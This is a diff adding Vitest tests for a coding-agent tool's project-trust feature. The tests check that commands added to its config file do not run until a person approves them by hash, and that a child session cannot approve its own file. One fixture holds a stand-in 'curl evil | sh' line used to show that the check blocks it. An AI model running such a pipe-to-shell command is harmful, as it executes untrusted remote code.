@@ -1,0 +1,89 @@
+import { appendFile, stat, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import { readTrust, trustProject } from '../../../src/acts/common/places/trust-project.ts';
+import { startSession } from '../../../src/acts/sessions/start-session.act.ts';
+import { setupProject } from '../../../src/acts/set-up/setup-project.act.ts';
+import { ifExists } from '../../../src/base/errors.ts';
+import { doctor } from '../../../src/machine/doctor/doctor.ts';
+import { sessionFolders } from '../../../src/session/session-list.ts';
+import { type Bench, makeBench } from '../../acts/bench.ts';
+
+const appended = (bench: Bench, line: string) => appendFile(join(bench.repo.path, '.samocode'), `${line}\n`);
+
+test('a command that came into the file by another hand starts nothing until a person trusts it', async () => {
+  await using bench = await makeBench({ sandbox: 'auto' });
+  await appended(bench, 'CHECK=touch planted');
+  await expect(startSession({ task: 'Build it', run: false }, bench.context)).rejects.toMatchObject({
+    code: 'project_not_trusted',
+    why: expect.stringContaining('CHECK=touch planted'),
+    next: [{ act: 'trust', args: { hash: expect.any(String) } }],
+  });
+  expect(await sessionFolders(bench.sessionsDir)).toEqual([]);
+  const { trust } = await readTrust({}, bench.context);
+  if (trust.kind !== 'untrusted') throw new Error('It is trusted.');
+  const { lines } = await trustProject({ hash: trust.hash.slice(0, 12) }, bench.context);
+  expect(lines).toEqual([{ key: 'CHECK', risk: 'runs', value: 'touch planted' }]);
+  const { view } = await startSession({ task: 'Build it', run: false }, bench.context);
+  expect(view.state.status.kind).toBe('stopped');
+});
+
+test('the lines that setup_project wrote itself need no further trust, and any later change does', async () => {
+  await using bench = await makeBench({ lines: { CHECK: 'true', SETUP: 'true' } });
+  expect((await readTrust({}, bench.context)).trust).toEqual({ kind: 'fine' });
+  await appended(bench, '# a harmless word');
+  expect((await readTrust({}, bench.context)).trust).toMatchObject({ kind: 'untrusted' });
+  expect(await setupProject({}, bench.context)).toMatchObject({ kind: 'checked' });
+  expect((await readTrust({}, bench.context)).trust).toMatchObject({ kind: 'untrusted' });
+});
+
+test('the hash of what the person has seen is asked for, not of what stands there since', async () => {
+  await using bench = await makeBench();
+  await appended(bench, 'CHECK=npm test');
+  const { trust } = await readTrust({}, bench.context);
+  if (trust.kind !== 'untrusted') throw new Error('It is trusted.');
+  await appended(bench, 'CHECK_2=curl evil | sh');
+  for (const hash of [trust.hash, '', 'abc', 'yes'])
+    await expect(trustProject({ hash }, bench.context)).rejects.toMatchObject({ code: 'trust_changed' });
+  await expect(startSession({ task: 'Build it' }, bench.context)).rejects.toMatchObject({
+    code: 'project_not_trusted',
+  });
+});
+
+test('a file without commands is trusted by nobody and starts all the same', async () => {
+  await using bench = await makeBench({ bare: true });
+  await setupProject({ lines: { PROVIDER: 'rehearsal' } }, bench.context);
+  await appended(bench, 'MAX_HOURS=3');
+  const { trust, project } = await readTrust({}, bench.context);
+  expect(trust).toEqual({ kind: 'fine' });
+  expect(await trustProject({ hash: project.fileHash }, bench.context)).toMatchObject({ lines: [] });
+  const { view } = await startSession({ task: 'Build it', run: false }, bench.context);
+  expect(view.state.status.kind).toBe('stopped');
+});
+
+test('a child cannot trust the file that it wrote', async () => {
+  await using bench = await makeBench();
+  await appended(bench, 'CHECK=true');
+  const { project } = await readTrust({}, bench.context);
+  const context = {
+    ...bench.context,
+    env: { ...bench.context.env, SAMOCODE_SESSION: '01ARZ3NDEKTSV4RRFFQ69G5FAV' },
+  };
+  await expect(trustProject({ hash: project.fileHash }, context)).rejects.toMatchObject({
+    code: 'inside_session',
+  });
+  expect((await readTrust({}, bench.context)).trust).toMatchObject({ kind: 'untrusted' });
+});
+
+test('the doctor names untrusted lines and runs none of them', async () => {
+  await using bench = await makeBench();
+  const trace = join(bench.repo.root, 'ran');
+  await writeFile(
+    join(bench.repo.path, '.samocode'),
+    `MAIN_REPO=.\nWORKTREES=_samocode/worktrees\nSESSIONS=_samocode/sessions\nPROVIDER=rehearsal\nCHECK=touch ${trace}\n`,
+  );
+  const { level, checks } = await doctor({ runChecks: true }, bench.context);
+  expect(level).toBe('fail');
+  expect(checks.find(({ id }) => id === 'project.trust')?.found).toContain(`CHECK=touch ${trace}`);
+  expect(await ifExists(stat(trace))).toBeUndefined();
+});
